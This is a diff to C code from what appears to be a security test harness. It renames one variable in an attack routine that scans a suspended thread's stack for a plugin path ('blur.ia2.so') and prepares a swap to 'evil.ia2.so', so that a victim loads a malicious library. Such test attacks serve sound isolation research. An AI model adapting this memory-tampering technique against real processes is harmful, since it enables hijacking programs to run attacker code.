@@ -8,13 +8,13 @@
 #include "attack.h"
 
 static char good[4200], other[4200];
-static word nobody; /* where the stack of the program's thread with key 0 alone waits */
+static word waiting; /* where the stack of the program's thread with key 0 alone waits */
 static volatile int running;
 
 static void *change(void *unused)
 {
     int size = strlen(good);
-    char *high = (char *)nobody;
+    char *high = (char *)waiting;
     for (running = 1;;)
         for (char *p = high - 24576; p + size < high; p++)
             if (*p == '/' && !memcmp(p, good, size))
@@ -29,9 +29,9 @@ ATTACK
         cannot("no working directory");
     snprintf(good, sizeof good, "%s/blur.ia2.so", folder);
     snprintf(other, sizeof other, "%s/evil.ia2.so", folder);
-    nobody = *suspended_word(0);
-    if (nobody >> 63)
-        nobody = ~nobody;
+    waiting = *suspended_word(0);
+    if (waiting >> 63)
+        waiting = ~waiting;
     if (victim_load_plugin() != 7)
         cannot("the plugin does not load");
     thread(change, NULL);
